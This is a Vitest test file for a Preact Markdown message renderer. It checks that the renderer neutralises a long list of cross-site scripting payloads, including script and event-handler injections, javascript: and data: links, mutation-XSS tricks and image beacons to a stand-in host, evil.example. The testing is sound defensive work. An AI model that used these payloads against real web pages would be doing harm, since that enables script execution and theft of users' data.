// @vitest-environment happy-dom
import { render as mount } from 'preact';
import { describe, expect, it } from 'vitest';
import { Markdown, safeHref } from './markdown';

/** Every element that a message may become, and every attribute it may have. */
const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  P: ['dir', 'class'], BR: [], STRONG: [], EM: [], DEL: [], CODE: [], PRE: ['dir'], UL: [], OL: ['start'], LI: ['dir'],
  A: ['href', 'target', 'rel'],
};

function show(text: string): HTMLElement {
  const root = document.createElement('div');
  mount(<Markdown text={text} />, root);
  return root;
}

function faults(root: HTMLElement): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const allowed = ALLOWED[element.tagName];
    if (allowed === undefined) return [`<${element.tagName}>`];
    const wrong = [...element.attributes].filter(({ name }) => !allowed.includes(name)).map(({ name }) => `${element.tagName}@${name}`);
    const href = element.getAttribute('href');
    if (href !== null && !/^(https?:\/\/|mailto:)/.test(href)) wrong.push(`href ${href}`);
    return wrong;
  });
}

const XSS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><style><img src onerror=alert(1)></style></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.example/x.css"</style>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<div style="background:url(//evil.example/?q=)">x</div>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6a;avascript:alert(1))',
  '[x](&#106;&#97;&#118;&#97;script:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](%6aavascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://ok.example/1)',
  '[x](//evil.example)',
  '[x](https://bank.example@evil.example/)',
  '[x](https://ok.example "onmouseover=alert(1)")',
  '[x](https://ok.example/"onmouseover="alert(1))',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![](//evil.example/?q=secret)',
  '![x](https://evil.example/pixel.png)',
  '[![x](https://evil.example/pixel.png)](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '**<img src=x onerror=alert(1)>**',
  '`<img src=x onerror=alert(1)>`',
  '```"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
  '- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))',
  '> <img src=x onerror=alert(1)>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# <svg onload=alert(1)>',
  '</p></div></body><script>alert(1)</script>',
  '\u202e<img src=x onerror=alert(1)>',
];

describe('messages as elements', () => {
  it.each(XSS)('s_39 shows as text: %s', (text) => {
    const root = show(text);
    expect(faults(root)).toEqual([]);
    expect(root.querySelector('img, svg, script, iframe, style, [src]')).toBeNull();
    for (const link of root.querySelectorAll('a')) {
      expect(new URL(link.href).hostname).toMatch(/^ok\.example$/);
      expect(link.rel).toBe('noopener noreferrer nofollow');
      expect(link.target).toBe('_blank');
    }
  });

  it('shows what it does not let through as it was written', () => {
    expect(show('<img src=x onerror=alert(1)>').textContent).toBe('<img src=x onerror=alert(1)>');
    expect(show('![pic](https://evil.example/p.png)').textContent).toBe('![pic](https://evil.example/p.png)');
    expect(show('a & b < c &amp; d').textContent).toBe('a & b < c &amp; d');
  });

  it('makes the elements of the list', () => {
    const root = show('Hello **you** and *me*, ~~not~~ `x`\nnext\n\n1. one\n2. two\n\n- a\n  - b\n\n```\ncode <b>\n```\n\n[shop](https://ok.example/a?b=1&c=2) a@ok.example');
    const names = new Set([...root.querySelectorAll('*')].map((element) => element.tagName));
    expect([...names].sort()).toEqual(['A', 'BR', 'CODE', 'DEL', 'EM', 'LI', 'OL', 'P', 'PRE', 'STRONG', 'UL']);
    expect(root.querySelector('pre')?.textContent).toBe('code <b>');
    expect([...root.querySelectorAll('a')].map((link) => link.getAttribute('href'))).toEqual(['https://ok.example/a?b=1&c=2', 'mailto:a@ok.example']);
  });

  it('keeps where a list begins, and headings and quotations as text', () => {
    expect(show('3. three\n4. four').querySelector('ol')?.getAttribute('start')).toBe('3');
    expect(show('# Title').querySelector('h1')).toBeNull();
    expect(show('# Title').textContent).toBe('Title');
    expect(show('> said').textContent).toBe('> said');
    expect(show('- [x] done').textContent).toContain('[x] done');
  });

  it('survives whatever is thrown at it, quickly', () => {
    const size = 16 * 1024;
    const floods = ['>', '[', '![', '*', '_', '`', '- ', '<', '&', '~', '(', '[](', '**a', '\n- ', '1. '].map((part) => part.repeat(size / part.length));
    for (const text of [...floods, `${' - '.repeat(40)}x`, '\0\ufffd', 'x'.repeat(200_000)]) {
      const before = performance.now();
      const root = show(text);
      expect(faults(root)).toEqual([]);
      expect(performance.now() - before).toBeLessThan(2_000);
    }
  });

  it('links to nothing but the web and mail', () => {
    expect(safeHref('https://ok.example')).toBe('https://ok.example/');
    expect(safeHref('mailto:a@ok.example')).toBe('mailto:a@ok.example');
    for (const href of ['javascript:alert(1)', ' https://ok.example', 'ftp://ok.example', '/inbox', 'https://', 'https://a:b@ok.example', '']) {
      expect(safeHref(href)).toBeNull();
    }
  });
});
